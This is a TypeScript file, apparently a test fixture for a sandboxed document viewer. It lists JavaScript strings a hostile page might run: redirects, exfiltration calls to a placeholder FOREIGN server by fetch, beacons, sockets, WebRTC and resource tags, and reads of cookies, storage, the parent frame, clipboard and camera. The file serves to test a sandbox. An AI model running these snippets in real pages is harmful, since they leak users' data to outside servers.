/** The attempts of a hostile page, as JavaScript. `FOREIGN` is the URL of a foreign server that records requests. */

/** Attempts to navigate the frame, the viewer or a new window elsewhere. Each runs in a separate page. */
export const NAVIGATION_ATTEMPTS: Readonly<Record<string, string>> = {
  location: `location = 'FOREIGN/location'`,
  replace: `location.replace('FOREIGN/replace')`,
  'meta refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=FOREIGN/meta">')`,
  form: `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="FOREIGN/form"></form>'); f.submit()`,
  link: `document.body.insertAdjacentHTML('beforeend', '<a id=a href="FOREIGN/link">x</a>'); a.click()`,
  'link, saved': `document.body.insertAdjacentHTML('beforeend', '<a id=a href="FOREIGN/saved" download>x</a>'); a.click()`,
  'link, above':
    `for (const target of ['_top', '_parent', '_blank', ` +
    `'other']) { document.body.insertAdjacentHTML('beforeend', '<a href="FOREIGN/above" target="' + target + '">` +
    `x</a>'); document.body.lastChild.click() }`,
  'link, ping': `document.body.insertAdjacentHTML('beforeend', '<a id=a href="#x" ping="FOREIGN/ping">x</a>'); a.click()`,
  top: `try { top.location = 'FOREIGN/top' } catch {} parent.location.replace('FOREIGN/parent')`,
  open: `open('FOREIGN/open'); open('FOREIGN/open', '_top')`,
  data: `location = 'data:text/html,<script>location="FOREIGN/data"</' + 'script>'`,
  blob: `location = URL.createObjectURL(new Blob(['<script>fetch("FOREIGN/b");location="FOREIGN/blob"</' + 'script>'], { type: 'text/html' }))`,
  viewer: `location = '/api/scrolls'`,
  'viewer, scroll': `location = '/s/'`,
};

/** Attempts to send data to another server without navigating. All run in one page. */
export const SEND_ATTEMPTS: readonly string[] = [
  `fetch('FOREIGN/fetch')`,
  `fetch('FOREIGN/simple', { mode: 'no-cors', keepalive: true })`,
  `fetchLater('FOREIGN/later')`,
  `navigator.sendBeacon('FOREIGN/beacon')`,
  `const x = new XMLHttpRequest(); x.open('GET', 'FOREIGN/xhr'); x.send()`,
  `new Image().src = 'FOREIGN/image'`,
  `new EventSource('FOREIGN/events')`,
  `new WebSocket('FOREIGN/socket'.replace('http', 'ws'))`,
  `new WebTransport('FOREIGN/transport'.replace('http', 'https'))`,
  `import('FOREIGN/module.js')`,
  `const s = document.createElement('script'); s.src = 'FOREIGN/script.js'; document.head.append(s)`,
  ...[
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'prerender',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
    'compression-dictionary',
  ].map((rel) => `document.head.insertAdjacentHTML('beforeend', '<link rel="${rel}" as=image href="FOREIGN/${rel}">')`),
  `const s = document.createElement('script'); s.type = 'speculationrules'; ` +
    `s.textContent = JSON.stringify(Object.fromEntries(['prefetch', 'prerender'].map((kind) => ` +
    `[kind, [{ urls: ['FOREIGN/rules'], eagerness: 'immediate' }]]))); document.head.append(s)`,
  `document.head.insertAdjacentHTML('beforeend', '<style>@import "FOREIGN/a.css"; @font-face { font-family: q; ` +
    `src: url(FOREIGN/font) } body { font-family: q; background: url(FOREIGN/background) }</style>')`,
  `document.body.insertAdjacentHTML('beforeend', ` +
    `'<video src="FOREIGN/video" poster="FOREIGN/poster" autoplay muted></video><audio src="FOREIGN/audio"></audio>` +
    '<object data="FOREIGN/object"></object><embed src="FOREIGN/embed"><iframe src="FOREIGN/frame"></iframe><svg>' +
    `<image href="FOREIGN/svg"/><use href="FOREIGN/use#x"/></svg>')`,
  `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<img src=FOREIGN/srcdoc><script>fetch(&quot;` +
    `FOREIGN/s&quot;);location=&quot;FOREIGN/srcdoc&quot;</' + 'script>"></iframe>')`,
  `document.body.insertAdjacentHTML('beforeend', '<iframe src="data:text/html,<img src=FOREIGN/dataframe>"></iframe>')`,
  `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img ` +
    `src="FOREIGN/blobframe">'], { type: 'text/html' })); document.body.append(f)`,
  `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'FOREIGN/blank'`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("FOREIGN/worker");importScripts("FOREIGN/imported")'])))`,
  `CSS.paintWorklet.addModule('FOREIGN/worklet')`,
  `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }, { urls: 'turn:HOST?transport=tcp', ` +
    `username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((offer) => ` +
    'p.setLocalDescription(offer))',
  `navigator.credentials.get({ identity: { providers: [{ configURL: 'FOREIGN/credentials', clientId: 'x' }] } })`,
  `new PaymentRequest([{ supportedMethods: 'FOREIGN/payment' }], { total: { label: 'a', ` +
    `amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  `document.head.insertAdjacentHTML('beforeend', ` +
    `'<meta http-equiv=Content-Security-Policy content="img-src x:; report-uri FOREIGN/report">'); ` +
    `new Image().src = 'x'`,
];

/**
 * Attempts to access data of others: expressions whose value, if any, is written into the page. `OTHER` is the URL of
 * another entry's files with their own capability, `OWN` that with the capability of this page.
 */
export const ACCESS_ATTEMPTS: Readonly<Record<string, string>> = {
  'the document above': `parent.document.body.innerHTML`,
  'the storage above': `parent.localStorage.length`,
  storage: `localStorage.length`,
  'session storage': `sessionStorage.length`,
  cookies: `document.cookie`,
  databases: `new Promise((yes, no) => { const o = indexedDB.open('x'); o.onsuccess = yes; o.onerror = no })`,
  caches: `caches.keys()`,
  'the list of scrolls': `fetch('/api/scrolls').then((r) => r.text())`,
  'the list of scrolls, blindly': `fetch('/api/scrolls', { mode: 'no-cors' }).then((r) => r.type)`,
  login: `fetch('/api/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then((r) => r.text())`,
  'login as text': `fetch('/api/login', { method: 'POST', mode: 'no-cors', body: '{}' }).then((r) => r.type)`,
  'login by a form':
    `new Promise((yes, no) => { const f = document.createElement('form'); f.method = 'post'; ` +
    `f.action = '/api/login'; document.body.append(f); f.submit(); setTimeout(no, 200) })`,
  feed: `new Promise((yes, no) => { const w = new WebSocket('ws://' + location.host + '/api/feed'); w.onopen = yes; w.onerror = no })`,
  'another entry': `fetch('OTHER').then((r) => r.text())`,
  'another entry, blindly': `fetch('OTHER', { mode: 'no-cors' }).then((r) => r.type)`,
  'another entry as picture': `new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = 'OTHER' })`,
  'another entry as script':
    `new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = no; ` +
    `s.src = 'OTHER'; document.head.append(s) })`,
  'another entry as style':
    `new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; ` +
    `l.onload = yes; l.onerror = no; l.href = 'OTHER'; document.head.append(l) })`,
  'another entry as module': `import('OTHER')`,
  'another entry, as ours': `fetch('OWN').then((r) => r.ok ? r.text() : Promise.reject())`,
  'the journal': `fetch(new URL('scroll.ndjson', location)).then((r) => r.ok ? r.text() : Promise.reject())`,
  'a service worker': `navigator.serviceWorker.register(location.href)`,
  'a shared worker': `new SharedWorker(location.href).port.constructor.name`,
  'the frames beside':
    `[...Array(parent.length).keys()].map((i) => { try { return parent[i] === window ? '' : ` +
    `parent[i].document.body.innerText } catch { return '' } }).join('') || Promise.reject()`,
  'a frame within':
    `(() => { const f = document.createElement('iframe'); document.body.append(f); ` +
    'return f.contentWindow.localStorage.length })()',
  clipboard: `navigator.clipboard.readText()`,
  camera: `navigator.mediaDevices.getUserMedia({ video: true })`,
  position: `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))`,
  notifications: `Notification.requestPermission().then((p) => p === 'granted' ? p : Promise.reject())`,
};
